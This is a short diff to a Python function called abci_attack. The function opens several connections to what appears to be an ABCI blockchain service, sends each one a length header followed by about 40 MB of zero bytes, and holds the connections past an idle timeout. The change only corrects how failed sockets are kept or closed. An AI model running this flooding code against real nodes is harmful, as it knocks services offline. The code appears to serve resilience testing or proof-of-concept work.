@@ -149,9 +149,10 @@ def abci_attack(connections=8, held=40 << 20):
                 header.append(length)
                 try:
                     s.sendall(bytes(header) + b"\x00" * held)
+                    sockets.append(s)
                 except OSError:
                     dropped += 1
-                sockets.append(s)
+                    s.close()
             time.sleep(15)      # past [abci] idle-timeout
             for s in sockets:
                 s.settimeout(0.1)
